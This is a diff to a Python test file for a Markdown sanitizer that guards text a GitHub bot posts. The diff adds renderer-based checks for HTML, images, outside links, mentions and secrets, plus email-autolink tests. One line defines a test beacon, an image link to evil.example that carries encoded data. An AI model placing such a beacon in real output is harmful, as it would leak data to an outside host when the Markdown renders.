@@ -1,6 +1,10 @@
 """The outbound sanitizer against threats.md T2 (secrets), T4 (mentions, commands), T5 (beacons,
 HTML, links, bidi) and T6 (size). Pure: no network, no files.
 
+The oracle is GitHub's own renderer (cmark-gfm, tests/markdown_oracle.py), not the sanitizer's
+scanner: every output is rendered and checked for raw HTML, images, links outside the
+repository, live mentions, bare URLs, invisible characters and secrets.
+
 Secret-shaped test values are assembled at run time so that this file itself never contains a
 credential shape (secret scanners and push protection would rightly complain).
 """
@@ -23,6 +27,7 @@ from depthgate.core.sanitize import (
     sanitize,
 )
 from depthgate.core.secretscan import find_secret_shape
+from tests.markdown_oracle import problems
 
 REPO = "octo-org/depthgate"
 CANARY_KEY = "dg-canary-gateway-key-" + "7f3a9c"
@@ -48,10 +53,22 @@ BEACON = "![x](https://evil.example/?d=c2VjcmV0)"
 REPO_LINK = f"https://github.com/{REPO}/blob/main/src/app.py#L10"
 
 
+SHAPES = (GHP, PAT, SK, AKIA, "PRIVATE KEY", "MIIEowIBAAKCAQEAx1Yq3kR9u0Zy")
+
+
+def rendered_problems(out: str, policy: SanitizePolicy) -> list[str]:
+    """What GitHub's renderer would show of ``out`` that must not be posted."""
+    secrets = (*SHAPES, *(s for s in policy.secrets if len(s) >= 8))
+    return problems(
+        out, repo=policy.repo, hosts=policy.allowed_hosts, secrets=secrets, own_html=False
+    )
+
+
 def clean(text: str, policy: SanitizePolicy = POLICY) -> str:
-    """sanitize, asserting the two properties every output must have."""
+    """sanitize, asserting the two properties every output must have: GitHub's renderer finds
+    nothing in it, and a second pass changes nothing."""
     out = sanitize(text, policy)
-    assert invariant_violations(out, policy) == []
+    assert rendered_problems(out, policy) == []
     assert sanitize(out, policy) == out
     return out
 
@@ -322,8 +339,16 @@ def test_mentions_are_wrapped_in_code_spans(text: str, expected: str) -> None:
 
 
 def test_emails_and_code_are_not_mentions() -> None:
-    text = "mail security@example.com; `@octocat` stays\n```\n@octocat in code\n```"
+    text = "`@octocat` stays\n```\n@octocat in code\n```"
     assert clean(text) == text
+
+
+@pytest.mark.parametrize("address", ["security@example.com", "a\\@b.com", "a@b\\.com"])
+def test_an_email_address_is_not_left_for_githubs_autolinker(address: str) -> None:
+    # cmark-gfm links an address as mailto: even when escaped; its domain is shown as code
+    out = clean(f"mail {address}; thanks")
+    assert "`@" in out
+    assert out.startswith("mail ")
 
 
 @pytest.mark.parametrize(
@@ -543,7 +568,8 @@ def test_any_text_comes_out_clean_and_sanitize_is_idempotent(
     # canonical form (every rewrite leaves something the scanner keeps as is), and sanitize
     # stops only when a pass changes nothing, so a second call has nothing left to do.
     out = sanitize(text, policy)
-    assert invariant_violations(out, policy) == []
+    assert rendered_problems(out, policy) == []
+    assert invariant_violations(out, policy) == []  # the sanitizer agrees with the renderer
     assert sanitize(out, policy) == out
     assert "could not be made safe" not in out  # the rewriting converged; no fallback needed
     assert len(out.encode()) <= policy.max_bytes
@@ -558,4 +584,4 @@ def test_allowed_links_survive_next_to_any_text(text: str) -> None:
     link = f"[source]({REPO_LINK})"
     out = sanitize(f"{link}\n\n{text}", POLICY)
     assert out.startswith(link + "\n")
-    assert invariant_violations(out, POLICY) == []
+    assert rendered_problems(out, POLICY) == []
